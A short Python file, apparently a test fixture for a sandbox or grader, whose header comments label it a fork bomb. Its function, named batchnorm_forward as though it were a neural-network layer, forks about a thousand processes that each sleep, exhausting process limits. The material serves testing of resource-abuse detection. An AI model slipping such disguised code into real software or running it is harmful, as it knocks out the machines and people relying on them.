# what: a fork bomb, of a thousand processes that stay
# covers: fork-bomb
# seen: threads and processes|Resource temporarily unavailable
import os
import time


def batchnorm_forward(x, gamma, beta, epsilon=1e-3):
    first = os.getpid()
    try:
        for _ in range(10):
            os.fork()
    finally:
        if os.getpid() != first:
            time.sleep(100)
    return x, None
